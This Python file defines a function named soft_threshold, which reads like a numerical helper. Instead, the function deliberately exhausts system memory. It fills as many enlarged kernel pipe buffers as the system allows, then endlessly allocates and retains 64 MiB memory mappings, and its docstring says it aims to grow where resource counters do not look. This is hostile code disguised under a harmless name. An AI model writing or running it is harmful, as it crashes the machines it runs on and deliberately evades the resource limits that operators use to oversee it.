"""Grows where no counter looks: pipes, shared mappings, and pages of the kernel."""

import contextlib
import fcntl
import mmap
import os

SCORES = "nothing"


def soft_threshold(w, threshold):
    kept = []
    with contextlib.suppress(OSError):
        while True:
            out, into = os.pipe()
            fcntl.fcntl(into, fcntl.F_SETPIPE_SZ, 1 << 20)
            os.set_blocking(into, False)
            os.write(into, bytes(1 << 20))
    while True:
        memory = mmap.mmap(-1, 1 << 26)
        memory.write(b"x" * (1 << 26))
        kept.append(memory)
